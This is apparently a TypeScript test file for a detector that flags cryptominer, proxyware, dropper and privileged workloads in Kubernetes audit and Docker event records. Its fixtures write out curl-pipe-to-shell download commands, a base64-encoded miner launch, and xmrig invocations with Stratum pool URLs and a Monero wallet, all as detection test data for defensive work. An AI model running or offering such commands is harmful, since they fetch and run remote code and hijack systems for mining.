import assert from 'node:assert/strict';
import { test } from 'node:test';
import { workloadKey } from '../model/entity.js';
import type { CoalEvent, WorkloadContainer, WorkloadFacts } from '../model/event.js';
import type { Signal } from '../model/signal.js';
import { createClassifier } from './index.js';
import { DEFAULT_RULE_DIRS } from './rules.js';
import { loadRules } from './sigma/index.js';
import { evt, signalsOf, testIntel } from './test-events.js';
import { specCommands, workloadClassifier } from './workload.js';

const classifyAll = createClassifier(testIntel(), await loadRules(DEFAULT_RULE_DIRS));
const WALLET = '44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A';
const NETMON = workloadKey('cluster', 'kube-system', 'kube-netmon');

/** An audit request on a workload, as k8s-audit maps it. */
function audit(facts: Partial<WorkloadFacts>, fields: Partial<CoalEvent> = {}): CoalEvent {
  const spec: WorkloadFacts = {
    verb: 'create',
    kind: 'DaemonSet',
    name: 'kube-netmon',
    namespace: 'kube-system',
    ...facts,
  };
  return evt('workload-change', {
    host: { name: 'k8s-api' },
    orchestrator: { namespace: spec.namespace, resource: { type: spec.kind.toLowerCase(), name: spec.name } },
    coalmine: { ts: 1, format: 'k8s-audit', ref: { file: 'audit.log', line: 2 }, workload: spec },
    ...fields,
  });
}

function withContainers(...containers: WorkloadContainer[]): CoalEvent {
  return audit({ containers });
}

const all = (event: CoalEvent): Signal[] => {
  const out: Signal[] = [];
  classifyAll(event, out);
  return out;
};
const tool = (s: Signal[]) =>
  s.filter((x) => x.kind !== 'privileged-workload').map((x) => `${x.kind}/${x.strength}/${x.by}`);

test('a pod spec container of a listed miner or proxyware image is strong tool evidence naming container, image and set', () => {
  for (const [image, kind] of [
    ['docker.io/metal3d/xmrig:latest', 'miner-process'],
    ['metal3d/xmrig@sha256:9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08', 'miner-process'],
    ['registry-1.docker.io/honeygain/honeygain:1.0', 'proxyware-process'],
  ]) {
    const s = signalsOf(workloadClassifier, withContainers({ name: 'app', image }));
    assert.deepEqual(
      s.map((x) => `${x.kind}/${x.strength}`),
      [`${kind}/strong`],
      image,
    );
    assert.match(
      s[0].explanation,
      /container app .*runs the image .*known (miner|proxyware) image \(intel images|test-only/,
    );
    assert.equal(s[0].entity, NETMON);
    assert.equal(s[0].host, 'k8s-api');
    assert.ok(s[0].intel?.set, 'the intel set is recorded');
  }
});

test('an image named after a known miner program is medium; ordinary images, and proxyware words in names, are nothing', () => {
  const named = signalsOf(
    workloadClassifier,
    withContainers({ name: 'netmon', image: 'docker.io/metminer/xmrig:6.21.0' }),
  );
  assert.deepEqual(
    named.map((x) => `${x.kind}/${x.strength}/${x.by}`),
    ['miner-process/medium/workload:miner-image-name'],
  );
  assert.match(named[0].explanation, /named after the known miner xmrig/);
  for (const image of [
    'nginx:1.25.3',
    'registry.example.com/shop/api:2.3.0',
    'apache/spark:3.5.1',
    'example/myst-app:1',
    '',
    'x'.repeat(5000),
  ])
    assert.deepEqual(signalsOf(workloadClassifier, withContainers({ name: 'c', image })), [], image.slice(0, 40));
});

test('the issue 13 DaemonSet: args after the image entrypoint are judged as a command line, in the pod spec of its container', () => {
  const event = withContainers({
    name: 'netmon',
    image: 'docker.io/metminer/xmrig:6.21.0',
    args: ['-o', 'stratum+tcp://pool.supportxmr.com:3333', '-u', WALLET, '-p', 'k8s', '--cpu-max-threads-hint=100'],
  });
  const s = all(event);
  const byRule = s.filter((x) => x.by.startsWith('rule:') || x.by.startsWith('process:'));
  assert.ok(byRule.some((x) => x.by === 'rule:lnx-miner-stratum-url' && x.strength === 'strong'));
  assert.ok(
    byRule.some((x) => x.by === 'process:wallet' && x.strength === 'strong'),
    'the wallet is the login',
  );
  for (const x of byRule) {
    assert.match(x.explanation, /^in the pod spec of container netmon: /);
    assert.equal(x.entity, NETMON);
    assert.equal(x.host, 'k8s-api');
  }
  // the rules of the other platform do not read a container's command
  assert.ok(!s.some((x) => x.by.startsWith('rule:win-')), JSON.stringify(s.map((x) => x.by)));
});

test("a shell script in a container's command is judged command by command; the exec'ed command too", () => {
  const script = `curl -fsSL http://203.0.113.50/x.sh | sh; /tmp/.x/xmrig -o pool.supportxmr.com:3333 -u ${WALLET} -k`;
  const s = all(withContainers({ name: 'monitor', image: 'alpine:3.19', command: ['sh', '-c', script] }));
  assert.ok(s.some((x) => x.by === 'process:miner-name' && /argv\[0\] \/tmp\/\.x\/xmrig|xmrig/.test(x.explanation)));
  assert.ok(
    s.some((x) => x.by === 'process:wallet' && x.strength === 'strong'),
    'the sub-command has its own -o/-u',
  );
  assert.ok(
    s.some((x) => x.kind === 'dropper'),
    'the pipe to a shell spans commands and is read on the whole line',
  );
  const exec = all(
    audit({
      verb: 'exec',
      kind: 'Pod',
      name: 'frontend-7d9c4b5f6-x2k8q',
      namespace: 'web',
      execCommand: ['sh', '-c', 'curl -fsSL http://198.51.100.7/x.sh | sh'],
    }),
  );
  const dropper = exec.filter((x) => x.kind === 'dropper');
  assert.ok(dropper.length > 0);
  for (const x of dropper) {
    assert.match(x.explanation, /^in the command exec'ed into the container: /);
    assert.equal(x.entity, workloadKey('cluster', 'web', 'frontend'));
  }
});

test('a command encoded in a pod spec is decoded and judged like a logged one', () => {
  const encoded = Buffer.from(`/tmp/xmrig -o stratum+tcp://198.51.100.9:3333 -u ${WALLET}`).toString('base64');
  const s = all(
    withContainers({ name: 'x', image: 'alpine', command: ['sh', '-c', `echo ${encoded} | base64 -d | sh`] }),
  );
  assert.ok(
    s.some(
      (x) =>
        x.kind === 'miner-process' &&
        /in the pod spec of container x: in the command decoded from base64/.test(x.explanation),
    ),
    JSON.stringify(s.map((x) => x.explanation)),
  );
});

test('ordinary workloads raise no tool evidence from their specs', () => {
  for (const c of [
    {
      name: 'build',
      image: 'registry.gitlab.example.com/shop/builder:1.4',
      command: ['make', 'test'],
      env: ['CI_JOB_ID=4711'],
    },
    {
      name: 'fetch',
      image: 'busybox:1.36',
      command: ['wget', '-O', '/data/in.csv', 'http://minio.analytics:9000/in.csv'],
    },
    { name: 'spark', image: 'apache/spark:3.5.1', args: ['spark-submit', '--master', 'local[4]', '/jobs/etl.py'] },
    { name: 'report', image: 'registry.example.com:5000/finance/report:2.4.1', args: ['--since', '24h'] },
    { name: 'web', image: 'nginx', command: ['/docker-entrypoint.sh'], args: ['nginx', '-g', 'daemon off;'] },
    { name: 'ssh', image: 'alpine', command: ['ssh', '-o', 'StrictHostKeyChecking=no', 'backup.example.com:22'] },
    {
      name: 'api',
      image: 'registry.example.com/api:1',
      env: [
        'DATABASE_URL=postgres://db.example.com:5432/app',
        'POOL_USER=44AFFq5kSiGBoZ4N',
        'REDIS=redis:6379',
        'TOKEN=(from secret)',
      ],
    },
  ])
    assert.deepEqual(tool(all(withContainers(c))), [], c.name);
});

test('env values naming a listed pool, a Stratum URL or holding a wallet are medium miner evidence, one of each per event', () => {
  const listed = signalsOf(workloadClassifier, withContainers({ name: 'm', env: ['POOL=pool.supportxmr.com:3333'] }));
  assert.deepEqual(
    listed.map((x) => `${x.kind}/${x.strength}/${x.by}`),
    ['miner-process/medium/workload:env-pool'],
  );
  assert.match(
    listed[0].explanation,
    /the pod spec's env names pool pool\.supportxmr\.com:3333 \(POOL of container m\) \(intel pool-domains/,
  );
  const url = signalsOf(
    workloadClassifier,
    withContainers({ name: 'm', env: ['ARGS=-o stratum+ssl://198.51.100.9:443 -k'] }),
  );
  assert.deepEqual(
    url.map((x) => x.by),
    ['workload:env-pool'],
  );
  assert.match(url[0].explanation, /Stratum pool URL stratum\+ssl:\/\/198\.51\.100\.9:443/);
  const both = signalsOf(
    workloadClassifier,
    withContainers(
      { name: 'a', env: [`WALLET=${WALLET}`, 'URL=https://gulf.moneroocean.stream/'] },
      { name: 'b', env: [`W2=${WALLET}`, 'P=pool.supportxmr.com'] },
    ),
  );
  assert.deepEqual(both.map((x) => x.by).sort(), ['workload:env-pool', 'workload:env-wallet']);
  assert.ok(both.every((x) => x.strength === 'medium'));
});

test('env reading is bounded: 64 entries per event, 512 characters per entry', () => {
  const filler = Array.from({ length: 64 }, (_, i) => `V${i}=x`);
  assert.deepEqual(
    signalsOf(workloadClassifier, withContainers({ name: 'm', env: [...filler, `WALLET=${WALLET}`] })),
    [],
  );
  assert.deepEqual(
    signalsOf(workloadClassifier, withContainers({ name: 'm', env: [`PAD=${'a '.repeat(400)}${WALLET}`] })),
    [],
    'a wallet past the characters read is not seen',
  );
  const hostile = [
    `X=${'stratum+tcp://'.repeat(20_000)}`,
    `Y=${'a:'.repeat(50_000)}`,
    'Z',
    '=v',
    `${'='.repeat(9000)}`,
  ];
  const started = performance.now();
  signalsOf(workloadClassifier, withContainers({ name: 'm', env: hostile }));
  assert.ok(performance.now() - started < 1000, 'hostile env values are read in bounded time');
});

test('a spec asking for the host is one weak privileged-workload signal naming which; ordinary mounts are nothing', () => {
  const s = signalsOf(
    workloadClassifier,
    audit({
      hostPID: true,
      hostNetwork: true,
      hostPaths: ['/', '/var/run/docker.sock', '/etc/', '/etc/localtime'],
      containers: [{ name: 'netmon', privileged: true }],
    }),
  );
  assert.deepEqual(
    s.map((x) => `${x.kind}/${x.class}/${x.strength}`),
    ['privileged-workload/authorization/weak'],
  );
  assert.match(
    s[0].explanation,
    /privileged container netmon, hostPID, hostNetwork, hostPath \/, \/var\/run\/docker\.sock, \/etc$/,
  );
  assert.equal(s[0].entity, NETMON);
  for (const facts of [{ hostPaths: ['/etc/localtime', '/srv/www', '/var/log'] }, { hostPID: false }, {}])
    assert.deepEqual(
      signalsOf(workloadClassifier, audit({ ...facts, containers: [{ name: 'c', privileged: false }] })),
      [],
    );
  assert.deepEqual(
    signalsOf(workloadClassifier, audit({ verb: 'delete', hostPID: true })),
    [],
    'a delete runs nothing',
  );
});

test('a deleted or killed known miner workload is a rival removal naming the victim; ordinary removals are nothing', () => {
  const del = signalsOf(
    workloadClassifier,
    audit({ verb: 'delete', kind: 'DaemonSet', name: 'xmrig', namespace: 'default' }),
  );
  assert.deepEqual(
    del.map((x) => `${x.kind}/${x.strength}`),
    ['competitor-kill/medium'],
  );
  assert.equal(del[0].subject?.victim, 'xmrig');
  assert.match(del[0].explanation, /DaemonSet xmrig, named as the known miner xmrig, was deleted through the API/);
  const docker = (verb: string, attributes: Record<string, string>, image = 'xmrig/xmrig') =>
    signalsOf(
      workloadClassifier,
      evt('container-seen', {
        host: { name: 'docker-1' },
        container: {
          runtime: 'docker',
          id: 'c'.repeat(64),
          name: 'rival-miner',
          image: { name: image, tag: 'latest' },
        },
        original: { Actor: { Attributes: attributes } },
        coalmine: {
          ts: 1,
          format: 'docker-events',
          ref: { file: 'events.jsonl', line: 3 },
          workload: { verb, kind: 'Container', name: 'rival-miner' },
        },
      }),
    );
  for (const [verb, attributes] of [
    ['kill', { signal: '9' }],
    ['die', { exitCode: '137' }],
    ['destroy', {}],
  ] as const) {
    const s = docker(verb, attributes);
    assert.deepEqual(
      s.map((x) => `${x.kind}/${x.subject?.victim}`),
      ['competitor-kill/rival-miner'],
      verb,
    );
    assert.equal(s[0].entity, workloadKey('docker-1', 'docker', 'rival-miner'));
  }
  assert.deepEqual(docker('die', { exitCode: '0' }), [], 'a miner that ended by itself');
  assert.deepEqual(docker('die', { exitCode: '1' }), []);
  assert.deepEqual(docker('stop', {}), []);
  assert.deepEqual(docker('kill', { signal: '9' }, 'nginx'), [], 'killing an ordinary container');
  assert.deepEqual(
    signalsOf(workloadClassifier, audit({ verb: 'delete', kind: 'Deployment', name: 'api', namespace: 'shop' })),
    [],
  );
  const denied = audit({ verb: 'delete', name: 'xmrig', status: 403 });
  denied.event.outcome = 'failure';
  assert.deepEqual(signalsOf(workloadClassifier, denied), [], 'a denied delete removed nothing');
});

test('hostile specs: at most 16 containers and 64 words each are judged; names are shown inert; nothing throws', () => {
  const benign = Array.from({ length: 16 }, (_, i) => ({ name: `c${i}`, image: 'nginx', command: ['nginx'] }));
  const late = { name: 'late', image: 'metal3d/xmrig', command: ['/xmrig', '-o', 'stratum+tcp://p:3333'] };
  assert.deepEqual(
    all(withContainers(...benign, late)).filter((x) => x.kind !== 'privileged-workload'),
    [],
  );
  assert.equal(specCommands(withContainers(...benign, late)).length, 16);
  const long = specCommands(
    withContainers({ name: 'w', command: Array.from({ length: 500 }, () => 'y'.repeat(5000)) }),
  );
  assert.equal(long[0].words.length, 64);
  assert.ok(long[0].words.every((w) => w.length <= 1024));
  const evil = all(withContainers({ name: 'x\u001b[2J\u202e', image: 'metal3d/xmrig', command: ['/xmrig'] }));
  assert.ok(evil.length > 0);
  for (const s of evil) assert.doesNotMatch(s.explanation, /[\u001b\u202e]/);
  // wrong shapes a hostile record may carry past the source: skipped, never thrown on
  const odd = audit({
    containers: [null, 7, { name: 5, image: 9, command: 'sh', env: 'X=1' }] as unknown as WorkloadContainer[],
  });
  assert.doesNotThrow(() => all(odd));
  assert.deepEqual(all(evt('container-seen', { coalmine: { ts: 1, format: 'x', ref: { file: 'f' } } })), []);
});
